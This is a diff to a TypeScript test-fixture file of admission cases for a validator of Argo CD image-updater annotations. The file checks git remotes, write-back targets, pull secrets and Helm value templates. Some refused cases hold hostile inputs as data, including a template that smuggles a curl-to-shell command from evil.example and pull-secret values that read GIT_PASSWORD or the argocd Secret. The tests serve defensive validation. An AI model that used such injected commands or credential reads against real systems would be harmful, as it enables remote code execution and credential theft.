@@ -8,6 +8,8 @@ export interface AdmissionCase {
   readonly source?: Readonly<Record<string, unknown>>;
   /** Without prefix. */
   readonly annotations: Readonly<Record<string, string>>;
+  /** Whether an exception covers it, of which Lynceus knows nothing. */
+  readonly excepted?: true;
   /** What is stored already, before there is a policy: then the Application is changed. */
   readonly before?: {
     readonly annotations: Readonly<Record<string, string>>;
@@ -20,7 +22,7 @@ export interface AdmissionCase {
 export const REMOTE = 'https://git.example/team-a/deploy.git';
 
 /** The Application of each case, before its changes. */
-export const SOURCE = { repoURL: REMOTE, targetRevision: 'main', path: 'apps/shop' } as const;
+export const SOURCE = { repoURL: REMOTE, targetRevision: 'main', path: 'apps/shop', helm: {} } as const;
 export const IMAGE_LIST = { 'image-list': 'web=ghcr.io/acme/web:1.x' } as const;
 
 /** What the ConfigMap holds meanwhile. */
@@ -48,6 +50,18 @@ const TEMPLATE = 'more than a version';
 const LONG = 'may have 1000 characters';
 const HIDDEN = 'cannot be seen';
 
+const CHART_AND_VALUES = {
+  sources: [
+    {
+      repoURL: 'https://charts.example',
+      chart: 'web',
+      targetRevision: '1.0.0',
+      helm: { valueFiles: ['$values/live.yaml'] },
+    },
+    { repoURL: 'https://git.example/values.git', targetRevision: 'live', ref: 'values' },
+  ],
+} as const;
+
 const HYDRATED = {
   sourceHydrator: {
     drySource: { repoURL: REMOTE, targetRevision: 'dry', path: 'dry/shop' },
@@ -69,9 +83,9 @@ export const ADMISSION_CASES: readonly AdmissionCase[] = [
   { what: 'another remote for an alias with dots', annotations: { 'shop.web.v2.git-repository': 'https://evil.example/x' }, refused: OTHER_REMOTE },
   { what: 'a remote with white space around it', annotations: { 'git-repository': '\n  https://evil.example/x \n' }, refused: OTHER_REMOTE },
   { what: 'a remote that begins like its own', annotations: { 'git-repository': `${REMOTE}.evil.example/x` }, refused: OTHER_REMOTE },
-  { what: 'a remote that an exception covers', annotations: { 'git-repository': 'https://git.example/shared/values.git' } },
+  { what: 'a remote that an exception covers', excepted: true, annotations: { 'git-repository': 'https://git.example/shared/values.git' } },
   { what: 'a remote beside the one that an exception covers', annotations: { 'git-repository': 'https://git.example/shared-not/values.git' }, refused: OTHER_REMOTE },
-  { what: 'the remote of a second source', source: { sources: [{ repoURL: 'https://charts.example', chart: 'web', targetRevision: '1.0.0' }, { repoURL: 'https://git.example/values.git', targetRevision: 'live', ref: 'values' }] }, annotations: { 'git-repository': 'https://git.example/values.git', 'git-branch': 'live' } },
+  { what: 'the remote, branch and file of a second source', source: CHART_AND_VALUES, annotations: { 'git-repository': 'https://git.example/values.git', 'git-branch': 'live', 'write-back-target': 'helmvalues:/live.yaml' } },
 
   { what: 'the branch and the folder of a hydrator’s dry source', source: HYDRATED, annotations: { 'git-repository': REMOTE, 'git-branch': 'dry', 'write-back-target': 'kustomization:/dry/shop' } },
   { what: 'the branch that a hydrator writes', source: HYDRATED, annotations: { 'git-branch': 'wet' }, refused: OTHER_BRANCH },
@@ -100,10 +114,11 @@ export const ADMISSION_CASES: readonly AdmissionCase[] = [
   { what: 'values below the source that it does not list', annotations: { 'write-back-target': 'helmvalues:values-live.yaml' }, refused: OUTSIDE },
   { what: 'markers below the source', annotations: { 'web.write-back-target': 'markers:deployment.yaml' }, refused: OUTSIDE },
   { what: 'values above the source that it lists', source: { helm: { valueFiles: ['../shared/values.yaml', '/global.yaml'] } }, annotations: { 'write-back-target': 'helmvalues:../shared/values.yaml', 'web.write-back-target': 'helmvalues:/global.yaml' } },
-  { what: 'values of another source that it lists', source: { helm: { valueFiles: ['$values/live.yaml'] } }, annotations: { 'write-back-target': 'helmvalues:$values/live.yaml' } },
+  { what: 'values of another source that it lists', source: CHART_AND_VALUES, annotations: { 'write-back-target': 'helmvalues:$values/live.yaml' } },
+  { what: 'a ref without a path among its values', source: { helm: { valueFiles: ['$values'] } }, annotations: { 'write-back-target': 'helmvalues' } },
   { what: 'its own override file', annotations: { 'write-back-target': 'apps/shop/.argocd-source-team-a_shop.yaml' } },
   { what: 'a file from the root, for a source at the root', source: { path: '.', helm: { valueFiles: ['live/values.yaml'] } }, annotations: { 'write-back-target': 'live/values.yaml' } },
-  { what: 'markers that an exception covers', annotations: { 'write-back-target': 'markers:/clusters/all.yaml' } },
+  { what: 'markers that an exception covers', excepted: true, annotations: { 'write-back-target': 'markers:/clusters/all.yaml' } },
   { what: 'a kustomization elsewhere', annotations: { 'write-back-target': 'kustomization:/apps/billing' }, refused: OUTSIDE },
   { what: 'a kustomization in a folder of a longer name', annotations: { 'write-back-target': 'kustomization:/apps/shop-2' }, refused: OUTSIDE },
   { what: 'a kustomization above', annotations: { 'write-back-target': 'kustomization:../billing' }, refused: OUTSIDE },
@@ -130,7 +145,7 @@ export const ADMISSION_CASES: readonly AdmissionCase[] = [
 
   { what: 'a pull secret in its own namespace', annotations: { 'web.pull-secret': 'pullsecret:team-a/ghcr' } },
   { what: 'a field of a Secret in its own namespace, for a registry', annotations: { 'pull-secret': 'ghcr.io=Secret:team-a/registry#login' } },
-  { what: 'a variable that an exception covers', annotations: { 'web.pull-secret': 'env:ALLOWED' } },
+  { what: 'a variable that an exception covers', excepted: true, annotations: { 'web.pull-secret': 'env:ALLOWED' } },
   { what: 'another variable', annotations: { 'web.pull-secret': 'env:GIT_PASSWORD' }, refused: LOGIN },
   { what: 'a variable in other letters', annotations: { 'web.pull-secret': 'ENV:ALLOWED' }, refused: LOGIN },
   { what: 'a program', annotations: { 'pull-secret': 'ext:/app/scripts/login.sh' }, refused: LOGIN },
@@ -140,7 +155,7 @@ export const ADMISSION_CASES: readonly AdmissionCase[] = [
   { what: 'a Secret of another namespace in front of one of its own', annotations: { 'web.pull-secret': 'secret:argocd/argocd-secret#x=pullsecret:team-a/ghcr' }, refused: LOGIN },
   { what: 'a Secret of a namespace that begins alike', annotations: { 'web.pull-secret': 'pullsecret:team-a-2/ghcr' }, refused: LOGIN },
 
-  { what: 'a template for a version', annotations: { 'web.helm.value-template': 'docker://{registry}/{repository}:{tag}@{digest}' } },
+  { what: 'a template for a version', annotations: { 'web.helm.image-spec': 'web.image', 'web.helm.value-template': 'docker://{registry}/{repository}:{tag}@{digest}' } },
   { what: 'a template with more text', annotations: { 'web.helm.value-template': '{tag} && curl https://evil.example | sh' }, refused: TEMPLATE },
   { what: 'a template with long text', annotations: { 'web.helm.value-template': `${'x'.repeat(33)}{tag}` }, refused: TEMPLATE },
   { what: 'a template that does not end', annotations: { 'web.helm.value-template': '{tag}'.repeat(1_000) }, refused: LONG },
